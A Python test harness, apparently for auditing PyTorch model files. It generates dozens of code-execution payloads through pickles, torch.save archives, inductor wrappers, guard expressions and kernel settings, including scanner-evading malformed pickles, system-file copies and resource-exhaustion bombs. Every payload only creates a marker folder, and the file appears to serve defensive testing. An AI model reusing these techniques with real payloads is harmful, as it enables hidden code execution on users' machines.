"""Attacks that work: each makes the file or folder ``@`` where Python or torch 2.13 loads it, as torch loads an entry.

``python attacks.py FOLDER`` runs every one in a folder of its own below this; `test_attacks.py` does in a child, and audits the same bytes.
"""

import io
import json
import os
import pickle
import sys
import zipfile
from pathlib import Path
from typing import Any

MAKE = "__import__('os').mkdir('@')"
# What torch writes at the beginning of a wrapper.
HEADER = """
from ctypes import c_void_p, c_long, c_int
import torch
import math
import random
import os
import tempfile
from math import inf, nan
from torch._inductor.hooks import run_intermediate_hooks
from torch._inductor.utils import maybe_profile
from torch._inductor.codegen.memory_planning import _align as align
from torch import device, empty_strided
from torch._inductor.async_compile import AsyncCompile
from torch._inductor.select_algorithm import extern_kernels
aten = torch.ops.aten
assert_size_stride = torch._C._dynamo.guards.assert_size_stride
async_compile = AsyncCompile()
async_compile.wait(globals())
del async_compile
"""
# Behind the header of a wrapper, a line each.
WRAPPERS = r"""
os.mkdir('@')
from os import mkdir; mkdir('@')
import os as device; device.mkdir('@')
import os.path as math; math.os.mkdir('@')
import torch._inductor.async_compile as triton; triton.os.mkdir('@')
from torch._inductor.async_compile import os as align; align.mkdir('@')
from torch import os as nan; nan.mkdir('@')
from os import *; mkdir('@')
import subprocess; subprocess.run(['mkdir', '@'])
import pathlib; pathlib.Path('@').mkdir()
__import__('os').mkdir('@')
eval("__import__('os').mkdir('@')")
exec("import os; os.mkdir('@')")
x = compile("__import__('os').mkdir('@')", 'x', 'eval'); eval(x)
getattr(os, 'mkdir')('@')
vars(os)['mkdir']('@')
globals()['os'].mkdir('@')
async_compile = AsyncCompile(); async_compile.wait(open(file='@', mode='w'))
g = globals(); g['os'].mkdir('@')
[x for x in globals().values() if x is os][0].mkdir('@')
__builtins__['eval']("__import__('os').mkdir('@')") if isinstance(__builtins__, dict) else __builtins__.eval("__import__('os').mkdir('@')")
random._os.mkdir('@')
tempfile._os.mkdir('@')
tempfile._shutil.os.mkdir('@')
torch.hub.os.mkdir('@')
torch.serialization.os.mkdir('@')
torch._inductor.codecache.os.mkdir('@')
torch._inductor.async_compile.os.mkdir('@')
torch._inductor.cpp_builder.run_compile_cmd('mkdir @', cwd='.')
torch.fx.graph_module._exec_with_source("__import__('os').mkdir('@')", {})
torch._inductor.codecache.PyCodeCache.load("__import__('os').mkdir('@')")
from torch._inductor.codecache import PyCodeCache; PyCodeCache.load_by_key_path(*PyCodeCache.write("call = __import__('os').mkdir('@')"))
import sympy; sympy.sympify("__import__('os').mkdir('@')")
from sympy.parsing.sympy_parser import parse_expr; parse_expr("__import__('os').mkdir('@')")
import numpy.testing; numpy.testing.runstring("__import__('os').mkdir('@')", {})
tl = torch; tl.hub.os.mkdir('@')
math = torch; math.hub.os.mkdir('@')
x = torch; x.hub.os.mkdir('@')
aten = torch.hub; aten.os.mkdir('@')
(aten, y) = (torch.hub, 0); aten.os.mkdir('@')
for math in (torch,): math.hub.os.mkdir('@')
with torch.no_grad() as y, torch.no_grad(): torch.hub.os.mkdir('@')
(lambda math: math.hub.os.mkdir('@'))(torch)
(math := torch).hub.os.mkdir('@')
().__class__.__base__.__subclasses__()[0]; call = (lambda: 0).__globals__['os'].mkdir('@')
print.__self__.eval("__import__('os').mkdir('@')")
len.__self__.__import__('os').mkdir('@')
AsyncCompile.__init__.__globals__['os'].mkdir('@')
align.__globals__['sympy'].sympify("__import__('os').mkdir('@')")
run_intermediate_hooks.__globals__['__builtins__']['__import__']('os').mkdir('@')
maybe_profile.__wrapped__.__globals__['os'].mkdir('@')
(x for x in ()).gi_frame.f_builtins['eval']("__import__('os').mkdir('@')")
[f for f in [(i for i in ())]][0].gi_frame.f_globals['os'].mkdir('@')
from ctypes import pythonapi; pythonapi.PyRun_SimpleString(b"import os; os.mkdir('@')")
from ctypes import CDLL; CDLL(None).mkdir(b'@', 511)
x: os.mkdir('@') = 1
assert os.mkdir('@') is None
def f(x=os.mkdir('@')): pass
class Runner(metaclass=lambda *a, **k: os.mkdir('@')): pass
class Runner: os.mkdir('@')
f'{os.mkdir("@")}'
x = [os.mkdir('@') for y in (1,)]
x = {y: os.mkdir('@') for y in (1,)}
x = torch.ones(2); x.__reduce_ex__(2)[0].__globals__['os'].mkdir('@')
torch._ops.os.mkdir('@') if hasattr(torch._ops, 'os') else torch._ops.sys.modules['os'].mkdir('@')
from torch._inductor.runtime.triton_heuristics import start_graph, end_graph; start_graph(); from torch._inductor.runtime import triton_heuristics as h; h.collected_calls.append((1.0, 1.0, 1.0, 'x')); end_graph('@')
torch.ops.aten.from_file.default('@', True, 8)
torch.from_file('@', shared=True, size=8, dtype=torch.uint8)
torch.save({}, '@')
torch.ones(1).numpy().tofile('@')
torch.jit.save(torch.jit.script(torch.nn.Linear(1, 1)), '@')
torch.multiprocessing.get_context('fork').Process(target=os.mkdir, args=('@',)).start(); import time; time.sleep(0.3)
from torch._inductor.runtime import triton_heuristics; triton_heuristics.os.mkdir('@')
from torch._inductor.runtime.triton_heuristics import os as grid; grid.mkdir('@')
from torch._inductor.codegen.multi_kernel import os as MultiKernelCall; MultiKernelCall.mkdir('@')
extern_kernels.__class__.__init__.__class__; type(extern_kernels).__mro__; os.mkdir('@')
import pickle; pickle.loads(b"cos\x0amkdir\x0a(V@\x0atR.")
import pickle; x = pickle.loads; x(b"cos\x0amkdir\x0a(V@\x0atR.")
import pickle; pickle._loads(b"cos\x0amkdir\x0a(V@\x0atR.")
@eval\n@(lambda f: "__import__('os').mkdir('@')")\ndef g(): pass
try: 1 / 0\nexcept ZeroDivisionError as e: e.__traceback__.tb_frame.f_globals['os'].mkdir('@')
match torch:\n    case object(hub=math): math.os.mkdir('@')
match {'a': os}:\n    case {'a': align}: align.mkdir('@')
async def f(): os.mkdir('@')\nf().send(None)
def f(): yield os.mkdir('@')\nlist(f())
def f():\n    global math\n    math = torch.hub\nf(); math.os.mkdir('@')
class Runner:\n    __getattr__ = lambda self, name: os.mkdir('@')\nRunner().x
class Runner:\n    def __del__(self): os.mkdir('@')\nRunner()
class Runner:\n    def __init_subclass__(cls): os.mkdir('@')\nclass X(Runner): pass
while True:\n    os.mkdir('@'); break
if __name__ != '':\n    import os as nanj; nanj.mkdir('@')
"""
# Objects that a pickle makes when it is read: the function, and its arguments.
CALLS = r"""
os.mkdir '@'
posix.mkdir '@'
os.system 'mkdir @'
os.makedirs '@'
os.popen 'mkdir @'
os.open '@' 65
subprocess.Popen ['mkdir','@']
subprocess.call ['mkdir','@']
subprocess.check_output ['mkdir','@']
subprocess.getoutput 'mkdir @'
builtins.eval "__import__('os').mkdir('@')"
builtins.exec "import os; os.mkdir('@')"
builtins.open '@' 'w'
io.FileIO '@' 'w'
io.open '@' 'w'
_io.open '@' 'w'
codecs.open '@' 'w'
gzip.open '@' 'w'
bz2.open '@' 'w'
lzma.open '@' 'w'
tarfile.open '@' 'w'
zipfile.ZipFile '@' 'w'
sqlite3.connect '@'
logging.FileHandler '@'
shutil.copyfile '/etc/hostname' '@'
shutil.copytree '/etc/apt' '@'
pathlib.Path.mkdir Path('@')
timeit.timeit "__import__('os').mkdir('@')"
cProfile.run "__import__('os').mkdir('@')"
profile.run "__import__('os').mkdir('@')"
runpy._run_code "import os; os.mkdir('@')" {}
distutils.dir_util.mkpath '@'
venv.create '@'
sympy.core.sympify.sympify "__import__('os').mkdir('@')"
sympy.parsing.sympy_parser.parse_expr "__import__('os').mkdir('@')"
torch.utils._sympy.functions.FloorDiv "__import__('os').mkdir('@')" 2
torch.utils._sympy.functions.Mod "__import__('os').mkdir('@')" 2
torch.utils._sympy.functions.ToFloat "__import__('os').mkdir('@')"
torch.utils._sympy.functions.FloorDiv TorchVersion("__import__('os').mkdir('@')") 2
torch.utils._sympy.functions.Max "__import__('os').mkdir('@')" 2
numpy.testing.runstring "__import__('os').mkdir('@')" {}
torch.save {} '@'
torch.from_file '@' True 8
torch.fx.graph_module._exec_with_source "__import__('os').mkdir('@')" {}
torch.fx.graph_module._forward_from_src "__import__('os').mkdir('@')\ndef forward(self): pass" {}
torch.fx.graph_module.reduce_graph_module {'_code':"__import__('os').mkdir('@')\ndef forward(self): pass"} 'import torch\n'
torch.fx.graph_module.reduce_graph_module {'code':"__import__('os').mkdir('@')\ndef forward(self): pass"} 'import torch\n'
torch.fx.graph_module.reduce_graph_module {'_code':"def forward(self): pass"} "__import__('os').mkdir('@')\n"
torch._inductor.codecache.PyCodeCache.load "x = __import__('os').mkdir('@')"
torch._inductor.cpp_builder.run_compile_cmd 'mkdir @' '.'
torch.storage._load_from_bytes b"cos\nmkdir\n(V@\ntR."
"""
# Programs that no pickler writes.
PROGRAMS = {
    "inst": b"(V@\nios\nmkdir\n.", "obj": b"(cos\nmkdir\nV@\no.", "reduce": b"cos\nmkdir\n(V@\ntR.",
    "reduce, protocol 2": b"\x80\x02cos\nmkdir\nX\x01\0\0\0@\x85R.", "stack_global": b"\x80\x04\x8c\x02os\x8c\x05mkdir\x93\x8c\x01@\x85R.",
    "dotted": b"\x80\x04\x8c\x07tarfile\x8c\x08os.mkdir\x93\x8c\x01@\x85R.",
    "through torch": b"\x80\x04\x8c\x05torch\x8c\x0chub.os.mkdir\x93\x8c\x01@\x85R.",
    "getattr": b"\x80\x04cbuiltins\ngetattr\ncbuiltins\n__import__\n\x8c\x02os\x85R\x8c\x05mkdir\x86R\x8c\x01@\x85R.",
    "partial": b"\x80\x04cfunctools\npartial\ncos\nmkdir\n\x85R\x8c\x01@\x85R.",
    "partial of another function": b"\x80\x04cfunctools\npartial\ncbuiltins\nint\n\x85R\x94(cos\nmkdir\n)}Ntb0h\0\x8c\x01@\x85R.",
    "map": b"\x80\x04cbuiltins\nlist\ncbuiltins\nmap\ncos\nmkdir\n]\x8c\x01@a\x86R\x85R.",
    "breaks behind": b"cos\nmkdir\n(V@\ntR\xff", "dropped": b"cos\nmkdir\n(V@\ntR0N.", "in a list": b"](cos\nmkdir\n(V@\ntRe.",
    "as a key": b"}cos\nmkdir\n(V@\ntRNs.", "in a state": b"\x80\x04ccollections\nCounter\n)R}\x8c\x01acos\nmkdir\n\x8c\x01@\x85Rsb.",
    "__setstate__": b"\x80\x04ctorch._inductor.utils\nBoxedBool\n)\x81ctorch._inductor.utils\nBoxedBool\nN}\x8c\x0c__setstate__cos\nmkdir\ns\x86b0"
    b"ctorch._inductor.utils\nBoxedBool\n)\x81\x8c\x01@b.",
    "a string of Python 2": b"cos\nmkdir\n(S'@'\ntR.", "short string": b"cos\nmkdir\n(U\x01@tR.",
    "Python 2's module": b"c__builtin__\neval\n(V__import__('os').mkdir('@')\ntR.", "another of them": b"ccommands\ngetoutput\n(Vmkdir @\ntR.",
    "methodcaller": b"\x80\x04coperator\nmethodcaller\n\x8c\x05mkdir\x8c\x01@\x86Rcposix\n__doc__\n0cbuiltins\n__import__\n\x8c\x02os\x85R\x85R.",
}  # fmt: skip
RUNS = b"cos\nmkdir\n(V@\ntR."
# What a broken pickle does before it breaks, behind what other readers of pickles stop at.
PROGRAMS |= {
    "broken in a frame": b"\x80\x04\x95\x40" + bytes(7) + RUNS[:-1] + b"\xd3" + b"N" * 64,
    "broken behind a frame that begins in it":
        b"\x80\x04\x95\x18" + bytes(7) + RUNS[:-1] + b"ssNNN" + b"N" * 64,
    "broken in a frame, behind an odd number":
        b"\x80\x04\x95\x40" + bytes(7) + b"I0x10\n" + RUNS[:-1] + b"\xd3" + b"N" * 64,
    "broken behind a method of a list":
        b"\x80\x04cbuiltins\ngetattr\n]\x8c\x06append\x86R0" + RUNS[:-1] + b"\xd3",
    "cut, behind an odd number": b"\x80\x05I0x10\n" + RUNS[:-1] + b"\x96\x64" + bytes(7),
}  # fmt: skip
PROTOCOL_2 = b"\x80\x02" + RUNS
LEGACY = [pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, {}, [])]
GUARDS = r"""
__import__('os').mkdir('@') or True
torch.hub.os.mkdir('@')
math.__loader__.__init__.__class__ and eval("__import__('os').mkdir('@')")
(lambda: eval("__import__('os').mkdir('@')"))()
[eval("__import__('os').mkdir('@')") for x in (1,)]
2 <= L['a'] and eval("__import__('os').mkdir('@')")
max(L['a'], 1, key=lambda x: eval("__import__('os').mkdir('@')"))
(x := eval)("__import__('os').mkdir('@')")
L.__class__.__base__.__subclasses__() and print.__self__.eval("__import__('os').mkdir('@')")
f"{__import__('os').mkdir('@')}"
{eval("__import__('os').mkdir('@')"): 1}
torch.sym_max.__globals__['os'].mkdir('@')
"""
# Of a result, evaluated with the sizes of a call (`ShapeEnv.evaluate_symexpr`).
STRIDES = r"""
__import__('os').mkdir('@')
8 * (__import__('os').mkdir('@') or 1)
torch.hub.os.mkdir('@')
[eval("__import__('os').mkdir('@')") for x in (1,)]
"""
# Never run: they would take for ever.
BOMBS = ("9**9**9**9", "1 << 10**11", "math.factorial(10**9)", "2**(10**9)", "(9**99999)**99999", "L['a']**L['a']**L['a']",
         "math.comb(10**9, 10**8)", "10**10**10 > 1", "1 << L['a']", "'a' * 10**10 == ''", "L['a'] ** 10**8")  # fmt: skip
BLOCK = "1) and " + MAKE + " or (1"


def lines(table: str) -> list[str]:
    return [line.replace("\\n", "\n") for line in table.strip().splitlines()]


def call_of(line: str) -> bytes:
    """The pickle of a call: the function and its arguments, by the names that a line has."""
    name, _, given = line.partition(" ")
    parts = name.split(".")
    at = next((place for place, part in enumerate(parts) if part[0].isupper()), len(parts) - 1)
    module, function = ".".join(parts[:at]), ".".join(parts[at:])
    own = {"Path": _Object("pathlib", "Path"), "TorchVersion": _Object("torch.torch_version", "TorchVersion")}
    return _pickled(_Object(module, function)(*(eval(part, dict(own)) for part in _split(given))))


def _split(given: str) -> list[str]:
    parts, depth, quote, start = [], 0, "", 0
    for place, letter in enumerate(given + " "):
        if quote:
            quote = "" if letter == quote and given[place - 1] != "\\" else quote
        elif letter in "'\"":
            quote = letter
        elif letter == " " and depth == 0:
            parts.append(given[start:place])
            start = place + 1
        else:
            depth += (letter in "([{") - (letter in ")]}")
    return parts


class _Object:
    """A global that is called."""

    def __init__(self, module: str, name: str, *given: Any) -> None:
        self.module, self.name, self.given = module, name, given

    def __call__(self, *given: Any) -> "_Object":
        return _Object(self.module, self.name, *given)


def _pickled(value: Any) -> bytes:
    """Protocol 4, by hand: no module is imported that the pickle names."""

    def part(one: Any) -> bytes:
        if isinstance(one, _Object):
            name = b"".join(b"\x8c" + bytes([len(text)]) + text.encode() for text in (one.module, one.name))
            return name + b"\x93(" + b"".join(map(part, one.given)) + b"tR"
        if isinstance(one, dict):
            return b"}(" + b"".join(part(key) + part(two) for key, two in one.items()) + b"u"
        return pickle.dumps(one, 3)[2:-1].replace(b"q\0", b"")

    return b"\x80\x04" + part(value) + b"."


def zipped(content: bytes, name: str = "archive/data.pkl") -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as members:
        for member, data in ((name, content), ("archive/version", b"3\n"), ("archive/byteorder", b"little")):
            members.writestr(zipfile.ZipInfo(member), data)
    return stream.getvalue()


def attacks() -> dict[str, tuple[str, bytes]]:
    """By name: how it is loaded, and the bytes."""
    found: dict[str, tuple[str, bytes]] = {}
    for line in lines(WRAPPERS):
        found[f"wrapper: {line}"] = "wrapper", (HEADER + line + "\n").encode()
    for line in CALLS.strip().splitlines():
        found[f"call: {line}"] = "pickle", call_of(line)
    found |= {f"program: {name}": ("pickle", data) for name, data in PROGRAMS.items()}
    for place in range(5):
        for name, runs in (("bare", RUNS), ("protocol 2", PROTOCOL_2)):
            parts = b"".join([*LEGACY[:place], runs, *LEGACY[place + 1 :]])
            found[f"torch.save, {name}, {place}"] = ("storage", parts)
    as_long = b"]" + b"N0" * ((len(RUNS) - 2) // 2) + b"N0"[: len(RUNS) % 2 * 2] + b"."
    harmless = as_long[: len(RUNS) - 1] + b"."
    # Read from a file, the bytes begin where the frame ends, and the program is another one.
    first = b"\x80\x04\x95\x10" + bytes(7) + b"\x8a\x10" + bytes(14) + b".."
    second = b"\x95\x20" + bytes(7) + b"0C\x1c\xff\xff" + RUNS + b"N" * (45 - len(RUNS)) + b"."
    found["a frame ends in bytes, and another begins"] = "storage", first + second
    found["zip"] = "storage", zipped(PROTOCOL_2)
    found["zip behind a zip"] = "storage", zipped(RUNS) + zipped(harmless)
    twice = zipped(PROTOCOL_2).replace(b"archive/byteorder", b"archive/data.pkl\0")
    found["zip, one name twice"] = ("storage", twice)
    for line in lines(GUARDS):
        found[f"guard: {line}"] = "guard", line.encode()
    for line in lines(STRIDES):
        found[f"stride: {line}"] = "stride", line.encode()
    block = json.dumps({"XBLOCK": BLOCK, "num_warps": 1, "found_by_coordesc": True})
    found["a block of a kernel"] = ("setting", block.encode())
    return found


def _run(kind: str, data: bytes) -> None:
    import torch

    if kind == "pickle":
        pickle.loads(data)
    elif kind == "storage":
        torch.storage._load_from_bytes(data)
    elif kind == "guard":
        eval(data.decode(), {"math": __import__("math"), "torch": torch}, {"L": {"a": 3}})
    elif kind == "stride":
        from torch.fx.experimental.symbolic_shapes import ShapeEnv

        ShapeEnv().evaluate_symexpr(data.decode())
    elif kind == "setting":
        from torch._inductor.runtime.triton_heuristics import Grid1D

        grid = Grid1D(inductor_meta={})
        grid.generate(json.loads(data))
        exec(f"grid_0 = {grid.x_grid}", {"xnumel": 1})
    else:
        exec(compile(data.decode(), "wrapper", "exec"), {"__name__": "wrapper", "__file__": "wrapper"})


def main() -> None:
    for number, (name, (kind, data)) in enumerate(attacks().items()):
        folder = Path(sys.argv[1]) / str(number)
        folder.mkdir()
        os.chdir(folder)
        try:
            _run(kind, data)
        except BaseException as error:
            print(f"{name}: {type(error).__name__}: {error}"[:300], flush=True)


if __name__ == "__main__":
    main()
